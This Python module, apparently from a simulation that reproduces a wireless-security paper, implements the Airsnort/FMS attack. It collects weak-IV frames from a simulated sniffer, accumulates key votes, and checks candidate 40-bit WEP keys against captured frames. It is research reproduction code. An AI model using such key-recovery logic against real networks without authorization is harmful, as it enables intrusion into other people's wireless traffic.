"""Airsnort: passive WEP key recovery (paper §4, references [3][11]).

"It could also be created by an outside attacker who has retrieved the
WEP key via Airsnort and a MAC address that he has observed by
sniffing network traffic."

The attack pipeline: monitor-mode capture → weak-IV filtering → FMS
vote accumulation (:class:`repro.crypto.fms.FmsAttack`) → candidate
verification against a captured frame's ICV.
"""

from __future__ import annotations

from typing import Optional

from repro.attacks.sniffer import MonitorSniffer, fms_samples_in
from repro.crypto.fms import FmsAttack
from repro.crypto.wep import WepError, WepKey, wep_decrypt
from repro.dot11.frames import FrameSubtype

__all__ = ["AirsnortAttack"]


class AirsnortAttack:
    """Crack a 40-bit WEP key from a sniffer's capture."""

    def __init__(self, sniffer: MonitorSniffer) -> None:
        self.sniffer = sniffer
        self.fms = FmsAttack(key_length=5)
        self._scanned = 0  # capture frames already fed

    def ingest(self) -> int:
        """Feed the frames captured since the last call; returns # fed.

        The sniffer's capture is unbounded and append-only, so the
        frames already fed are exactly its first ``_scanned``.
        """
        frames = self.sniffer.capture.frames
        fresh = list(fms_samples_in(frames[self._scanned:]))
        self._scanned = len(frames)
        self.fms.extend(fresh)
        return len(fresh)

    def _verifier(self):
        """Key candidate check: does it decrypt a captured frame (valid ICV)?"""
        test_bodies = []
        for cap in self.sniffer.capture.select(subtype=FrameSubtype.DATA, protected=True):
            test_bodies.append(cap.frame.body)
            if len(test_bodies) >= 3:
                break
        if not test_bodies:
            return None

        def verify(candidate: bytes) -> bool:
            key = WepKey(candidate)
            for body in test_bodies:
                try:
                    wep_decrypt(key, body)
                except WepError:
                    return False
            return True

        return verify

    def crack(self, search_width: int = 3) -> Optional[WepKey]:
        """Attempt recovery; None if the votes don't resolve yet."""
        self.ingest()
        verifier = self._verifier()
        candidate = self.fms.recover(verifier=verifier, search_width=search_width)
        if candidate is None:
            return None
        key = WepKey(candidate)
        self.sniffer.sim.trace.emit("airsnort.cracked", self.sniffer.port.name,
                                    key_bits=key.bits,
                                    weak_ivs=self.fms.weak_samples)
        return key

    @property
    def weak_iv_count(self) -> int:
        return self.fms.weak_samples
